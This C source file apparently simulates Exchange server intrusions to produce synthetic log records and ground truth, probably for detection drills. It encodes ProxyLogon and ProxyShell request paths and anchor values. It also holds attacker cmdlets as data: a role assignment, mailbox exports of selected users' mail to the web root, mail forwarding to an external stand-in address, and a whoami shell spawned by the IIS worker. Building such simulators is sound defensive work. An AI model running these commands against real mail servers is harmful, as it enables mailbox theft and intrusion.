// Attacks: the mail server
// SPDX-License-Identifier: Apache-2.0
#include "drill/attack_campaign.h"

#include <string.h>

#define WORKER "C:\\Windows\\System32\\inetsrv\\w3wp.exe"

// Paths, parameter names, statuses and cmdlet names only (CVE-2021-26855 and -27065;
// CVE-2021-34473, -34523 and -31207): what HttpProxy, IIS, ECP and cmdlet logs keep of them.
struct request {
    const char *method, *stem, *query, *protocol, *anchor, *action;
    uint16_t status;
    bool back; // asked of the back end by the front end
};

static const struct request forged[] = {
    {"POST", "/ecp/y.js", "", "Ecp", "ServerInfo~localhost/autodiscover", "", 200, false},
    {"POST", "/ecp/y.js", "", "Ecp", "ServerInfo~mail/mapi/emsmdb", "", 200, false},
    {"POST", "/ecp/proxyLogon.ecp", "", "Ecp", "ServerInfo~mail/ecp/proxyLogon.ecp", "", 241, true},
    {"POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=OABVirtualDirectory", "Ecp",
     "ServerInfo~mail/ecp/DDI/DDIService.svc/SetObject", "Set-OabVirtualDirectory", 200, true},
    {"POST", "/ecp/DDI/DDIService.svc/SetObject", "schema=ResetOABVirtualDirectory", "Ecp",
     "ServerInfo~mail/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#",
     "Remove-OabVirtualDirectory", 200, true},
};

static const struct request chained[] = {
    {"GET", "/autodiscover/autodiscover.json", "@example.org/mapi/nspi/&Email=", "Autodiscover", "",
     "", 401, false},
    {"POST", "/autodiscover/autodiscover.json", "@example.org/mapi/nspi/&Email=", "Autodiscover",
     "", "", 200, false},
    {"POST", "/autodiscover/autodiscover.json", "@example.org/powershell/&X-Rps-CAT=", "PowerShell",
     "", "New-ManagementRoleAssignment", 200, false},
    {"POST", "/powershell", "X-Rps-CAT=", "PowerShell", "", "New-MailboxExportRequest", 200, true},
};

static void ask(struct attack *attack, uint32_t step, uint32_t host, int64_t at,
                const struct request *request) {
    struct deed_web_exchange *exchange = arena_new(&attack->script->arena, 1, sizeof *exchange);
    struct deed *deed = attack_ask(attack, step, host, at, slice_of_string(request->stem));
    deed->web.method = slice_of_string(request->method);
    deed->web.query = slice_of_string(request->query);
    deed->web.status = request->status;
    deed->web.agent = SLICE("python-requests/2.31.0");
    if (request->back) {
        attack_from_host(attack, deed, host);
        deed->to.port = 444;
        deed->web.site = WEB_EXCHANGE_BACK;
        deed->web.user = attack_text(attack, "CORP\\%s$", attack->organisation->hosts[host].name);
    }
    if (!exchange)
        return;
    exchange->protocol = slice_of_string(request->protocol);
    exchange->anchor_mailbox = slice_of_string(request->anchor);
    exchange->action = slice_of_string(request->action);
    exchange->target = slice_of_string(attack->organisation->hosts[host].fqdn);
    exchange->back_status = request->status;
    exchange->client_info = SLICE("Unknown");
    deed->web.exchange = exchange;
}

static struct deed *run_cmdlet(struct attack *attack, uint32_t step, uint32_t host, int64_t at,
                               const char *name, struct slice parameters) {
    struct deed *deed = attack_add(attack, DEED_CMDLET, step, host, at);
    attack_put_program(attack, deed, SLICE(WORKER));
    deed->account = attack->stolen_account;
    deed->cmdlet.name = slice_of_string(name);
    deed->cmdlet.parameters = parameters;
    deed->cmdlet.client = SLICE("Unknown");
    deed->cmdlet.taken_ms = 300 + dice_below(&attack->dice, 900);
    return deed;
}

void attack_exploit_mail(struct attack *attack) {
    uint32_t host = attack_target(attack, HOST_MAIL);
    bool chain = attack->step->chain && strcmp(attack->step->chain, "powershell-chain") == 0;
    const struct request *requests = chain ? chained : forged;
    size_t count = chain ? ARRAY_SIZE(chained) : ARRAY_SIZE(forged);
    if (host == DEED_NO_HOST)
        return;
    uint32_t step = attack_open_step(attack, host, DEED_NO_HOST, attack->now_ns);
    int64_t at = attack->now_ns;
    for (size_t i = 0; i < count; i++) {
        at += (1 + dice_below(&attack->dice, 40)) * ATTACK_SECOND;
        ask(attack, step, host, at, &requests[i]);
    }
    at += ATTACK_SECOND;
    if (chain)
        run_cmdlet(attack, step, host, at, "New-ManagementRoleAssignment",
                   SLICE("-Role \"Mailbox Import Export\" -User \"administrator\""));
    else
        run_cmdlet(attack, step, host, at, "Set-OabVirtualDirectory",
                   SLICE("-Identity \"OAB (Default Web Site)\" -ExternalUrl \"http://f/#\""));
    attack_start(attack, step, host, at + 20 * ATTACK_SECOND, WORKER,
                 SLICE("C:\\Windows\\System32\\cmd.exe"), SLICE("cmd.exe /c whoami"));
    attack_reach(attack, host, DEED_NO_HOST, attack->now_ns);
}

static uint32_t pick_person(struct attack *attack, uint32_t number) {
    const struct organisation *organisation = attack->organisation;
    uint32_t seen = 0, last = DEED_NO_ACCOUNT;
    for (uint32_t i = 0; i < organisation->account_count; i++) {
        const struct account *account = &organisation->accounts[i];
        if (account->kind != PERSON_EXECUTIVE && account->kind != PERSON_DEVELOPER)
            continue;
        last = i;
        if (seen++ == number)
            break;
    }
    return last;
}

static struct slice mail_address(struct attack *attack, uint32_t number) {
    const struct organisation *organisation = attack->organisation;
    const struct account *account = &organisation->accounts[number];
    struct slice text = attack_text(attack, "%s@%s", account->name,
                                    organisation->companies[account->company].domain);
    truth_add_thing(attack->options->truth, attack->number, TRUTH_NAME, text);
    return text;
}

// Every second mailbox is large: then only some of its months.
void attack_export_mailboxes(struct attack *attack) {
    uint32_t host = attack_target(attack, HOST_MAIL), count = attack_count(attack, 4);
    uint64_t bytes = attack->step->bytes / count;
    if (host == DEED_NO_HOST)
        return;
    uint32_t step = attack_open_step(attack, host, DEED_NO_HOST, attack->now_ns);
    for (uint32_t i = 0; i < count; i++) {
        uint32_t person = pick_person(attack, i);
        if (person == DEED_NO_ACCOUNT)
            return;
        int64_t at = attack_moment(attack, i, count);
        struct slice mailbox = mail_address(attack, person);
        struct slice file = attack_text(attack, "m%u.pst", (unsigned)i);
        const char *range = i % 2 ? " -ContentFilter \"(Received -ge '12/01/2025') -and (Received "
                                    "-le '03/01/2026')\""
                                  : "";
        run_cmdlet(attack, step, host, at, "New-MailboxExportRequest",
                   attack_text(attack,
                               "-Mailbox \"%.*s\" -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\"
                               "wwwroot\\aspnet_client\\%.*s\"%s",
                               (int)mailbox.size, (const char *)mailbox.data, (int)file.size,
                               (const char *)file.data, range));
        struct deed *get = attack_ask(
            attack, step, host, at + 20 * ATTACK_MINUTE,
            attack_text(attack, "/aspnet_client/%.*s", (int)file.size, (const char *)file.data));
        get->web.response_bytes = bytes;
        get->web.taken_ms = 90000;
        truth_extend_step(attack->options->truth, step, at + 20 * ATTACK_MINUTE, bytes);
        run_cmdlet(attack, step, host, at + 26 * ATTACK_MINUTE, "Remove-MailboxExportRequest",
                   SLICE("-Confirm:$false"));
    }
}

void attack_read_mail(struct attack *attack) {
    static const char *const actions[] = {"FindItem", "GetItem", "GetItem", "GetAttachment"};
    uint32_t host = attack_target(attack, HOST_MAIL), count = attack_count(attack, 5);
    uint32_t calls = count * 12;
    if (host == DEED_NO_HOST)
        return;
    uint32_t step = attack_open_step(attack, host, DEED_NO_HOST, attack->now_ns);
    for (uint32_t i = 0; i < calls; i++) {
        uint32_t person = pick_person(attack, i % count);
        int64_t at = attack_moment(attack, i, calls);
        if (person == DEED_NO_ACCOUNT)
            return;
        struct slice mailbox = mail_address(attack, person);
        struct deed *deed = attack_add(attack, DEED_MAILBOX_ACCESS, step, host, at);
        attack_from_outside(attack, deed);
        deed->to.port = 443;
        deed->account = attack->stolen_account;
        deed->mailbox.action =
            slice_of_string(actions[dice_below(&attack->dice, ARRAY_SIZE(actions))]);
        deed->mailbox.mailbox = deed->mailbox.impersonated = mailbox;
        deed->mailbox.agent = SLICE("ExchangeServicesClient/0.0.0.0");
        deed->mailbox.status = 200;
        deed->mailbox.item_count = attack->step->items / calls + 1;
        deed->mailbox.request_bytes = 1900;
        deed->mailbox.response_bytes = attack->step->bytes / calls;
        deed->mailbox.taken_ms = 80 + dice_below(&attack->dice, 700);
        truth_extend_step(attack->options->truth, step, at, attack->step->bytes / calls);
    }
}

void attack_forward_mail(struct attack *attack) {
    uint32_t host = attack_target(attack, HOST_MAIL), count = attack_count(attack, 2);
    if (host == DEED_NO_HOST)
        return;
    uint32_t step = attack_open_step(attack, host, DEED_NO_HOST, attack->now_ns);
    for (uint32_t i = 0; i < count; i++) {
        uint32_t person = pick_person(attack, i);
        if (person == DEED_NO_ACCOUNT)
            return;
        struct slice mailbox = mail_address(attack, person);
        run_cmdlet(attack, step, host, attack_moment(attack, i, count), "Set-Mailbox",
                   attack_text(attack,
                               "-Identity \"%.*s\" -ForwardingSmtpAddress "
                               "\"smtp:archive@example.net\" -DeliverToMailboxAndForward "
                               "$true",
                               (int)mailbox.size, (const char *)mailbox.data));
    }
    truth_add_thing(attack->options->truth, attack->number, TRUTH_ACCOUNT,
                    SLICE("archive@example.net"));
}
